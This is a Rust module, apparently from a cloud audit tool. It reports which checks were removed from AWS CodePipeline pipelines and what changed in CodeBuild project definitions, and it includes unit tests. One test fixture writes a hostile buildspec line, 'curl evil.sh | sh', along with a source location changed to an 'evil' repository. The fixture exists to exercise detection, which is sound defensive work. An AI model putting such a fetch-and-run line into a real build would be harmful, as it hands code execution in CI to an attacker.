//! What changed between two versions of a pipeline's definition, named for people: CodePipeline
//! pipelines (stages and actions, and above all the approval, test and scan actions) and
//! CodeBuild projects (buildspec, source, image, privileged mode, service role).
//!
//! The rules `pipeline_definition_changed` and `pipeline_checks_removed` call these as SQL
//! functions (`definition_diff(before, after)`, `checks_removed(before, after)`) over the
//! definitions that earlier `Create*`/`Update*` events carried. Pure: text in, text out; a
//! definition that does not parse gives no diff (null), never an error.

use serde_json::{Map, Value};

/// One action of a CodePipeline stage.
#[derive(Debug, Clone, PartialEq)]
struct Action {
    stage: String,
    name: String,
    category: String,
    provider: String,
    /// CodeBuild project an action runs, where it names one.
    project: Option<String>,
}

impl Action {
    /// An approval, a test, or a build that by its name runs a test or a scan.
    fn is_check(&self) -> bool {
        if self.category.eq_ignore_ascii_case("Approval")
            || self.category.eq_ignore_ascii_case("Test")
        {
            return true;
        }
        let named = |s: &str| {
            let l = s.to_ascii_lowercase();
            CHECK_WORDS.iter().any(|w| l.contains(w))
        };
        named(&self.name) || self.project.as_deref().is_some_and(named)
    }

    fn is_deploy(&self) -> bool {
        self.category.eq_ignore_ascii_case("Deploy")
    }

    fn label(&self) -> String {
        let mut l = format!("{} ({}", self.name, self.category);
        if !self.provider.is_empty() {
            l.push_str(", ");
            l.push_str(&self.provider);
        }
        if let Some(p) = &self.project {
            l.push_str(", project ");
            l.push_str(p);
        }
        l.push_str(") in stage ");
        l.push_str(&self.stage);
        l
    }
}

/// Words that make a build action a check.
const CHECK_WORDS: &[&str] = &[
    "test", "scan", "lint", "security", "sast", "dast", "audit", "check", "verify", "vuln",
    "trivy", "snyk", "sonar", "checkov", "semgrep", "codeql",
];

/// A definition as text: the object itself or wrapped in `{"pipeline": ...}` / `{"project": ...}`.
fn parse(text: &str, key: &str) -> Option<Map<String, Value>> {
    let v: Value = serde_json::from_str(text).ok()?;
    let o = v.as_object()?;
    match o.get(key).and_then(Value::as_object) {
        Some(inner) => Some(inner.clone()),
        None => Some(o.clone()),
    }
}

fn s(v: Option<&Value>) -> String {
    match v {
        Some(Value::String(s)) => s.clone(),
        Some(Value::Number(n)) => n.to_string(),
        Some(Value::Bool(b)) => b.to_string(),
        _ => String::new(),
    }
}

/// The stages (in order) and their actions (in run order) of a pipeline definition.
fn stages(p: &Map<String, Value>) -> Option<Vec<(String, Vec<Action>)>> {
    let st = p.get("stages")?.as_array()?;
    let mut out = vec![];
    for stage in st {
        let name = s(stage.get("name"));
        let mut actions: Vec<(i64, Action)> = stage
            .get("actions")
            .and_then(Value::as_array)
            .map(|a| a.as_slice())
            .unwrap_or_default()
            .iter()
            .map(|a| {
                let t = a.get("actionTypeId");
                let cfg = a.get("configuration");
                (
                    a.get("runOrder").and_then(Value::as_i64).unwrap_or(1),
                    Action {
                        stage: name.clone(),
                        name: s(a.get("name")),
                        category: s(t.and_then(|t| t.get("category"))),
                        provider: s(t.and_then(|t| t.get("provider"))),
                        project: cfg
                            .and_then(|c| c.get("ProjectName"))
                            .and_then(Value::as_str)
                            .map(str::to_string),
                    },
                )
            })
            .collect();
        actions.sort_by_key(|(order, _)| *order);
        out.push((name, actions.into_iter().map(|(_, a)| a).collect()));
    }
    Some(out)
}

fn flat(st: &[(String, Vec<Action>)]) -> Vec<&Action> {
    st.iter().flat_map(|(_, a)| a.iter()).collect()
}

/// Position of an action in the pipeline's flow: stage index, then place in the stage.
fn position(st: &[(String, Vec<Action>)], name: &str) -> Option<(usize, usize)> {
    st.iter()
        .enumerate()
        .find_map(|(i, (_, acts))| acts.iter().position(|a| a.name == name).map(|j| (i, j)))
}

fn first_deploy(st: &[(String, Vec<Action>)]) -> Option<(usize, usize)> {
    st.iter()
        .enumerate()
        .find_map(|(i, (_, acts))| acts.iter().position(Action::is_deploy).map(|j| (i, j)))
}

/// The checks (approval, test and scan actions) that `after` removed from `before`, or moved
/// behind the first deploy; `None` when none were, or either side is not a pipeline definition.
pub fn checks_removed(before: &str, after: &str) -> Option<String> {
    let (b, a) = (parse(before, "pipeline")?, parse(after, "pipeline")?);
    let (sb, sa) = (stages(&b)?, stages(&a)?);
    let after_actions = flat(&sa);
    let mut removed = vec![];
    let mut moved = vec![];
    let deploy_before = first_deploy(&sb);
    let deploy_after = first_deploy(&sa);
    for c in flat(&sb).into_iter().filter(|c| c.is_check()) {
        match after_actions
            .iter()
            .find(|x| x.name == c.name && x.category == c.category)
        {
            None => removed.push(c.label()),
            Some(x) => {
                let was_before = match (position(&sb, &c.name), deploy_before) {
                    (Some(p), Some(d)) => p < d,
                    _ => true,
                };
                let now_after = match (position(&sa, &x.name), deploy_after) {
                    (Some(p), Some(d)) => p > d,
                    _ => false,
                };
                if was_before && now_after {
                    moved.push(x.label());
                }
            }
        }
    }
    let mut parts = vec![];
    if !removed.is_empty() {
        parts.push(format!("removed {}", removed.join("; ")));
    }
    if !moved.is_empty() {
        parts.push(format!("moved after the first deploy {}", moved.join("; ")));
    }
    (!parts.is_empty()).then(|| parts.join("; "))
}

/// What changed from `before` to `after`: stages and actions for a CodePipeline pipeline;
/// buildspec (as a line diff), source, image, privileged mode and service role for a CodeBuild
/// project. `None` when nothing it reads changed, or either side does not parse.
pub fn definition_diff(before: &str, after: &str) -> Option<String> {
    if let (Some(b), Some(a)) = (parse(before, "pipeline"), parse(after, "pipeline"))
        && let (Some(sb), Some(sa)) = (stages(&b), stages(&a))
    {
        return pipeline_diff(&sb, &sa);
    }
    let (b, a) = (parse(before, "project")?, parse(after, "project")?);
    project_diff(&b, &a)
}

fn pipeline_diff(sb: &[(String, Vec<Action>)], sa: &[(String, Vec<Action>)]) -> Option<String> {
    let names =
        |st: &[(String, Vec<Action>)]| st.iter().map(|(n, _)| n.clone()).collect::<Vec<_>>();
    let (nb, na) = (names(sb), names(sa));
    let mut parts = vec![];
    let gone: Vec<&String> = nb.iter().filter(|n| !na.contains(n)).collect();
    let new: Vec<&String> = na.iter().filter(|n| !nb.contains(n)).collect();
    if !gone.is_empty() {
        parts.push(format!("stages removed: {}", join(&gone)));
    }
    if !new.is_empty() {
        parts.push(format!("stages added: {}", join(&new)));
    }
    let kept_b: Vec<&String> = nb.iter().filter(|n| na.contains(n)).collect();
    let kept_a: Vec<&String> = na.iter().filter(|n| nb.contains(n)).collect();
    if kept_b != kept_a {
        parts.push(format!(
            "stages reordered: {} (was {})",
            join(&kept_a),
            join(&kept_b)
        ));
    }
    let (fb, fa) = (flat(sb), flat(sa));
    let removed: Vec<String> = fb
        .iter()
        .filter(|x| {
            !fa.iter()
                .any(|y| y.name == x.name && y.category == x.category)
        })
        .map(|x| x.label())
        .collect();
    let added: Vec<String> = fa
        .iter()
        .filter(|x| {
            !fb.iter()
                .any(|y| y.name == x.name && y.category == x.category)
        })
        .map(|x| x.label())
        .collect();
    let changed: Vec<String> = fa
        .iter()
        .filter_map(|x| {
            let y = fb
                .iter()
                .find(|y| y.name == x.name && y.category == x.category)?;
            if y.stage != x.stage {
                Some(format!(
                    "{} moved from stage {} to {}",
                    x.name, y.stage, x.stage
                ))
            } else if y.provider != x.provider || y.project != x.project {
                Some(format!("{} now {}", x.name, x.label()))
            } else {
                None
            }
        })
        .collect();
    if !removed.is_empty() {
        parts.push(format!("actions removed: {}", removed.join("; ")));
    }
    if !added.is_empty() {
        parts.push(format!("actions added: {}", added.join("; ")));
    }
    if !changed.is_empty() {
        parts.push(format!("actions changed: {}", changed.join("; ")));
    }
    (!parts.is_empty()).then(|| parts.join("; "))
}

fn join(v: &[&String]) -> String {
    v.iter().map(|s| s.as_str()).collect::<Vec<_>>().join(", ")
}

/// The CodeBuild fields that decide what a build runs, as `(label, path)`.
const PROJECT_FIELDS: &[(&str, &[&str])] = &[
    ("source type", &["source", "type"]),
    ("source location", &["source", "location"]),
    ("source version", &["sourceVersion"]),
    ("image", &["environment", "image"]),
    ("privileged mode", &["environment", "privilegedMode"]),
    ("service role", &["serviceRole"]),
];

fn at<'a>(o: &'a Map<String, Value>, path: &[&str]) -> Option<&'a Value> {
    let mut v = o.get(path[0])?;
    for k in &path[1..] {
        v = v.get(k)?;
    }
    (!v.is_null()).then_some(v)
}

fn project_diff(b: &Map<String, Value>, a: &Map<String, Value>) -> Option<String> {
    let mut parts = vec![];
    // An UpdateProject request holds only what it changes: a field it does not name is kept.
    for (label, path) in PROJECT_FIELDS {
        if let Some(new) = at(a, path) {
            let old = at(b, path);
            if old != Some(new) {
                parts.push(format!(
                    "{label} {} → {}",
                    old.map(|v| clip(&s(Some(v)), 80))
                        .unwrap_or_else(|| "unset".into()),
                    clip(&s(Some(new)), 80)
                ));
            }
        }
    }
    let spec = |o: &Map<String, Value>| at(o, &["source", "buildspec"]).map(|v| s(Some(v)));
    if let Some(new) = spec(a) {
        match spec(b) {
            Some(old) if old != new => parts.push(format!("buildspec {}", line_diff(&old, &new))),
            None => parts.push(format!(
                "buildspec set (no earlier buildspec in the lake): {}",
                clip(&new, 120)
            )),
            _ => {}
        }
    }
    (!parts.is_empty()).then(|| parts.join("; "))
}

/// The lines only one side has, at most four of each, each quoted and clipped.
fn line_diff(old: &str, new: &str) -> String {
    let norm = |t: &str| -> Vec<String> {
        t.lines()
            .map(str::trim_end)
            .filter(|l| !l.trim().is_empty())
            .map(str::to_string)
            .collect()
    };
    let (o, n) = (norm(old), norm(new));
    let minus: Vec<&String> = o.iter().filter(|l| !n.contains(l)).collect();
    let plus: Vec<&String> = n.iter().filter(|l| !o.contains(l)).collect();
    let show = |sign: char, v: &[&String]| {
        let mut s: Vec<String> = v
            .iter()
            .take(4)
            .map(|l| format!("{sign} `{}`", clip(l.trim(), 80)))
            .collect();
        if v.len() > 4 {
            s.push(format!("{sign} {} more line(s)", v.len() - 4));
        }
        s
    };
    let mut parts = show('-', &minus);
    parts.extend(show('+', &plus));
    if parts.is_empty() {
        "changed in whitespace only".into()
    } else {
        format!("lines {}", parts.join(", "))
    }
}

/// At most `n` characters (never cut inside one), with an ellipsis when cut.
fn clip(t: &str, n: usize) -> String {
    let mut it = t.chars();
    let head: String = it.by_ref().take(n).collect();
    if it.next().is_some() {
        format!("{head}…")
    } else {
        head
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An action as the tests write it: name, category, provider, CodeBuild project.
    type Act = (
        &'static str,
        &'static str,
        &'static str,
        Option<&'static str>,
    );

    fn pipeline(stages: &[(&str, &[Act])]) -> String {
        let st: Vec<Value> = stages
            .iter()
            .map(|(name, acts)| {
                serde_json::json!({"name": name, "actions": acts.iter().enumerate().map(|(i, (n, c, p, proj))| {
                    let mut a = serde_json::json!({"name": n, "runOrder": i + 1,
                        "actionTypeId": {"category": c, "owner": "AWS", "provider": p, "version": "1"}});
                    if let Some(proj) = proj { a["configuration"] = serde_json::json!({"ProjectName": proj}); }
                    a
                }).collect::<Vec<_>>()})
            })
            .collect();
        serde_json::json!({"pipeline": {"name": "web", "stages": st}}).to_string()
    }

    const SRC: Act = ("Source", "Source", "CodeStarSourceConnection", None);
    const BUILD: Act = ("Build", "Build", "CodeBuild", Some("web-build"));
    const SCAN: Act = ("Scan", "Build", "CodeBuild", Some("web-security-scan"));
    const TEST: Act = ("UnitTests", "Test", "CodeBuild", Some("web-tests"));
    const APPROVE: Act = ("ApproveProd", "Approval", "Manual", None);
    const DEPLOY: Act = ("DeployProd", "Deploy", "CloudFormation", None);

    #[test]
    fn removed_and_reordered_checks_are_named() {
        let full = pipeline(&[
            ("Source", &[SRC]),
            ("Build", &[BUILD, SCAN]),
            ("Test", &[TEST]),
            ("Approval", &[APPROVE]),
            ("Prod", &[DEPLOY]),
        ]);
        let cut = pipeline(&[("Source", &[SRC]), ("Build", &[BUILD]), ("Prod", &[DEPLOY])]);
        let got = checks_removed(&full, &cut).unwrap();
        assert!(
            got.contains("UnitTests (Test, CodeBuild, project web-tests) in stage Test"),
            "{got}"
        );
        assert!(
            got.contains("ApproveProd (Approval, Manual) in stage Approval"),
            "{got}"
        );
        assert!(
            got.contains("Scan (Build, CodeBuild, project web-security-scan)"),
            "{got}"
        );
        let diff = definition_diff(&full, &cut).unwrap();
        assert!(diff.starts_with("stages removed: Test, Approval"), "{diff}");

        // The approval moved behind the deploy.
        let late = pipeline(&[
            ("Source", &[SRC]),
            ("Build", &[BUILD, SCAN]),
            ("Test", &[TEST]),
            ("Prod", &[DEPLOY]),
            ("Approval", &[APPROVE]),
        ]);
        let got = checks_removed(&full, &late).unwrap();
        assert!(
            got.starts_with("moved after the first deploy ApproveProd"),
            "{got}"
        );
        assert!(
            definition_diff(&full, &late)
                .unwrap()
                .contains("stages reordered")
        );
    }

    #[test]
    fn changes_that_keep_the_checks_are_not_check_removals() {
        let a = pipeline(&[("Source", &[SRC]), ("Test", &[TEST]), ("Prod", &[DEPLOY])]);
        // A stage added, and the same definition again.
        let b = pipeline(&[
            ("Source", &[SRC]),
            ("Test", &[TEST]),
            ("Approval", &[APPROVE]),
            ("Prod", &[DEPLOY]),
        ]);
        assert_eq!(checks_removed(&a, &b), None);
        assert_eq!(checks_removed(&a, &a), None);
        assert_eq!(definition_diff(&a, &a), None);
        assert_eq!(
            definition_diff(&a, &b).unwrap(),
            "stages added: Approval; actions added: ApproveProd (Approval, Manual) in stage Approval"
        );
        // A pipeline that never had a check loses none.
        let bare = pipeline(&[("Source", &[SRC]), ("Prod", &[DEPLOY])]);
        assert_eq!(checks_removed(&bare, &bare), None);
    }

    #[test]
    fn buildspec_and_source_changes_are_diffed() {
        let before = serde_json::json!({"project": {"name": "web", "source": {"type": "GITHUB",
            "location": "https://github.com/acme/web", "buildspec": "version: 0.2\nphases:\n  build:\n    commands:\n      - make test\n      - make"}}})
        .to_string();
        // UpdateProject's request: only what changes.
        let after = serde_json::json!({"name": "web", "source": {"type": "GITHUB",
            "location": "https://github.com/evil/web", "buildspec": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl evil.sh | sh\n      - make"}})
        .to_string();
        let d = definition_diff(&before, &after).unwrap();
        assert!(
            d.contains("source location https://github.com/acme/web → https://github.com/evil/web"),
            "{d}"
        );
        assert!(
            d.contains("buildspec lines - `- make test`, + `- curl evil.sh | sh`"),
            "{d}"
        );
        assert_eq!(definition_diff(&before, &before), None);
        // An update that leaves the fields alone says nothing.
        assert_eq!(
            definition_diff(&before, r#"{"name": "web", "description": "x"}"#),
            None
        );
    }

    #[test]
    fn hostile_definitions_give_no_diff_and_never_panic() {
        for bad in [
            "",
            "{",
            "[]",
            "null",
            r#"{"pipeline": 5}"#,
            r#"{"pipeline": {"stages": [1, {"actions": "x"}]}}"#,
        ] {
            let _ = definition_diff(bad, bad);
            let _ = checks_removed(bad, r#"{"stages": []}"#);
        }
        // Multi-byte text is clipped on character boundaries.
        let long = "é".repeat(500);
        let b = serde_json::json!({"source": {"location": "a"}}).to_string();
        let a = serde_json::json!({"source": {"location": long}}).to_string();
        let d = definition_diff(&b, &a).unwrap();
        assert!(d.ends_with('…'));
    }
}
